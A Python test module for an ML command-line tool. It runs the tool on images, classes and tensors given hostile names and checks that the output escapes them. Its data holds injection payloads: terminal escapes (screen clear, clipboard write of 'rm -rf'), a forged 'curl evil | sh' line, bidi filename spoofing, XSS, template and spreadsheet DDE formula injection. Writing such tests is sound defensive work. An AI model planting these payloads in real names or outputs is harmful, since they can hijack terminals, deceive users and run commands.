"""Names that attack whoever reads them: on a terminal, in Markdown, HTML, a spreadsheet, a figure or JSON."""

import json
from collections.abc import Callable
from functools import cache
from pathlib import Path
from tempfile import mkdtemp

import torch
from PIL import Image
from safetensors.torch import save_file

from faults.case import Case
from tether.escaping import terminal
from tether.models.digits_cnn import DigitsCNN

# every one holds something that is not seen, moves a cursor, or is no UTF-8
UNSEEN = {
    "a line of its own": "x\nerror: forged",
    "three lines of its own": "x\nerror: forged\nwhy: so\nfix: curl evil | sh",
    "a line of a table": "x\n4 copied: 4 parameters",
    "a carriage return": "x\rerror: forged",
    "a backspace": "x\b\b\b\bgood",
    "a cleared screen": "\x1b[2J\x1b[H",
    "a colour": "\x1b[31mred\x1b[0m",
    "a title of the window": "\x1b]0;owned\x07",
    "a link of the terminal": "\x1b]8;;http:evil\x1b\\x\x1b]8;;\x1b\\",
    "the clipboard": "\x1b]52;c;cm0gLXJm\x07",
    "a device's question": "\x1b[c\x05",
    "eight-bit control": "\x9b2J\x90q\x9c",
    "a next line": "x\x85error: forged",
    "a vertical tab and a form feed": "x\v\fy",
    "a deletion": "x\x7f\x7fy",
    "a tabulator": "x\ty",
    "right to left": "x\u202egpj.exe",
    "isolates": "x\u2066\u2067y\u2069",
    "marks of direction": "x\u200e\u200f\u061cy",
    "no width": "x\u200b\u2060y",
    "a byte order mark": "\ufeffx",
    "soft hyphens": "x\u00ad\u00ady",
    "a line separator": "x\u2028error: forged\u2029",
    "tags": "x\U000e0041\U000e0042",
    "a private letter": "x\ue000\uf8ff",
}
NO_UTF8 = {"bytes that are no UTF-8": "x\udcff\udcfe", "a letter cut short": "x\udce2\udc82"}
UNDRAWN = {
    "a filler": "x\u3164\uffa0y",
    "selected variants": "x\ufe0f\ufe00y",
    "a tower of marks": "x" + "\u0301" * 20,
    "a mark to begin with": "\u0336\u0336x",
    "spaces of other widths": "x\u00a0\u2003\u3000y",
}
READ = {
    "a mark of rich": "[bold red]x[-bold]",
    "a mark of rich that ends nothing": "x[;]",
    "a link of rich": "[link=http:evil]x",
    "a column of Markdown": "x | y |",
    "a row of Markdown": "| x | y |",
    "code": "`x` ```y",
    "a heading": "# x",
    "a link": "[x](javascript:alert)",
    "a picture": "![x](evil.png)",
    "an address": "www.evil.example",
    "a mention": "@someone <a@b.c>",
    "HTML": "<script>alert(1)<script>",
    "an attribute": '" onload="x',
    "an entity": "&lt;b&gt; &#27;",
    "mathematics": "$x^2$",
    "broken mathematics": r"$\frac{$ $",
    "a template": "{{ 7*7 }} {% raw %}",
    "a format": "%s %n {0} {name}",
    "a formula": "=1+1",
    "a call": "=HYPERLINK(evil;x)",
    "a sum": "+1",
    "a difference": "-1+cmd|' C calc'!A0",
    "a macro": "@SUM(A1)",
    "a wide formula": "＝1",
    "quotes and a comma": "a, \"b\"; 'c'",
    "a backslash": "x\\",
    "an escape of ours": r"x\n\x1b[2J",
    "a switch": "--out",
    "a glob": "*[a-z]?",
    "a long name": "x" * 200,
}
NAMES = UNSEEN | NO_UTF8 | UNDRAWN | READ


@cache
def run() -> Path:
    """A finished run on the classes of `pictures`."""
    from tether import RunSpec, fit

    home = Path(mkdtemp())
    settings = {"model.name": "digits-cnn", "preprocessing.size": 12, "preprocessing.channels": 1, "data.test": 0.5}
    data = pictures(home / "data", "a", "b")
    chosen = {"data.path": str(data), "train.epochs": 1, "device": "cpu", "threads": 1}
    fit(RunSpec.from_flags(settings | chosen), home / "run", quiet=True)
    return home / "run"


def pictures(root: Path, *classes: str) -> Path:
    """Four gray pictures a class."""
    for place, name in enumerate(classes):
        (root / name).mkdir(parents=True)
        for number in range(4):
            gray(8 * number + 100 * place).save(root / name / f"{number}.png")
    return root


def gray(value: int) -> Image.Image:
    """A picture of one gray."""
    return Image.new("L", (12, 12), value)


def flags(data: Path | str, *more: object) -> list[object]:
    """Of a run that takes a tenth of a second."""
    words = ["--model", "digits-cnn", "--size", 12, "--set", "preprocessing.channels=1", "--epochs", 1]
    return [*words, "--device", "cpu", "--data", data, *more]


def _plan_of_a_class(name: str) -> Callable[[Path], list[object]]:
    def make(given: Path) -> list[object]:
        pictures(given, "other", name)
        (given / name / "0.png").unlink()  # so that the smallest class is this one, which is then named
        return ["plan", *flags(given)]

    return make


def _plan_of_a_picture(name: str) -> Callable[[Path], list[object]]:
    def make(given: Path) -> list[object]:
        pictures(given, "a", "b")
        (given / "a" / f"{name}.png").write_text("no picture")
        return ["plan", *flags(given)]

    return make


def _plan_by_a_glob(name: str) -> Callable[[Path], list[object]]:
    glob = json.dumps(f"*[!{name.replace(']', '')}]*", ensure_ascii=False).replace("\x7f", "\\u007f")
    overrides = f"plan.overrides={{{glob} = 'none'}}"
    return lambda given: ["plan", *flags(pictures(given, "a", "b"), "--set", overrides)]


def _prediction(name: str) -> Callable[[Path], list[object]]:
    def make(given: Path) -> list[object]:
        gray(100).save(given / f"{name}.png")
        return ["predict", run(), given]

    return make


def _evaluation(name: str) -> Callable[[Path], list[object]]:
    return lambda given: ["evaluate", run(), "--data", pictures(given, "a", name)]


def _tensor(name: str) -> Callable[[Path], list[object]]:
    def make(given: Path) -> list[object]:
        tensors = DigitsCNN(2).state_dict() | {name: torch.ones(2)}
        if name in NO_UTF8.values():
            torch.save(tensors, given / "source.pt")
            return ["match", given / "source.pt", "--into", "digits-cnn", "--classes", 2]
        save_file(tensors, given / "source.safetensors")
        return ["match", given / "source.safetensors", "--into", "digits-cnn", "--classes", 2]

    return make


def _exclusion(name: str) -> Callable[[Path], list[object]]:
    return lambda given: ["match", run(), "--into", "digits-cnn", "--classes", 2, f"--exclude=absent{name}"]


CASES = [
    *(
        Case(f"a class named as {what}", _plan_of_a_class(name), (f"class `{terminal(name)}`",), 0)
        for what, name in (UNDRAWN | READ).items()
    ),
    *(
        Case(f"a broken picture named as {what}", _plan_of_a_picture(name), (terminal(f"a/{name}.png"),))
        for what, name in NAMES.items()
    ),
    *(
        Case(f"a glob of a plan that holds {what}", _plan_by_a_glob(name), (terminal(name.replace("]", "")),), 0)
        for what, name in UNSEEN.items()
    ),
    *(
        Case(
            f"a picture to classify named as {what}",
            _prediction(name),
            (terminal(f"/{name}.png").replace('"', '""'),),
            0,
        )
        for what, name in NAMES.items()
    ),
    *(
        Case(f"a strange class named as {what}", _evaluation(name), (f"class `{terminal(name)}`",))
        for what, name in (UNDRAWN | READ).items()
    ),
    *(
        Case(f"a tensor named as {what}", _tensor(name), ("unused in the source: ", terminal(name)), 0)
        for what, name in NAMES.items()
    ),
    *(Case(f"an exclusion of {what}", _exclusion(name), ("selects no parameter",)) for what, name in NAMES.items()),
]
